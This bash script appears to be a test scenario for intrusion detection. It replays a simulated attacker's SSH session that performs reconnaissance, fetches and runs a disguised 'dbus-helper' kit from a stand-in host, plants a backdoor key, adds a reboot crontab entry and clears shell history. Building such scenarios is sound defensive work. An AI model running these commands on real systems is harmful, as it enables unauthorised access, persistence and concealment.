#!/bin/bash
# An intruder logs in with a stolen key, looks around, downloads and unpacks a kit, makes sure to come back, and scans with
# a hundred threads. Only the host's own loopback addresses are scanned, and nothing but a connection is tried.
# stolen-login.sh KEYS FILES SECONDS
keys=$1 files=$2
. "$(dirname "$0")/../clients/ssh.sh"

kit=$(mktemp -d)
cat >"$kit/dbus-helper" <<'END'
#!/usr/bin/python3
import socket, sys, threading

def scan(number):
    for port in range(20, 24):
        with socket.socket() as probe:
            probe.settimeout(0.5)
            probe.connect_ex((f"127.0.{number}.1", port))

threads = [threading.Thread(target=scan, args=(number,)) for number in range(100)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
END
chmod 755 "$kit/dbus-helper"
tar czf "$files/kit.tgz" -C "$kit" dbus-helper
rm -r "$kit"

type_lines 1 <<'END' | login deploy 203.0.113.66 -tt
[ -e /stage/sus-up-2 ]
whoami
id
uname -a
cat /proc/cpuinfo | head
w
ps aux
cat /etc/passwd
ls -la /home /root
find /home /srv /usr/bin -perm -4000 -type f 2>/dev/null | head
cat ~/.ssh/authorized_keys
[ -e /stage/evil ]
mkdir -p /tmp/.cache
cd /tmp/.cache
wget -q http://198.51.100.7:8000/kit.tgz || curl -s -O http://198.51.100.7:8000/kit.tgz
tar xzf kit.tgz
chmod +x dbus-helper
rm kit.tgz
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHVuZGVyc3RhbmQgdGhhdCB0aGlzIGlzIG5vIGtleQ intruder' >> ~/.ssh/authorized_keys
echo '@reboot /tmp/.cache/dbus-helper' > tab; crontab tab; rm tab
./dbus-helper
./dbus-helper
history -c
END
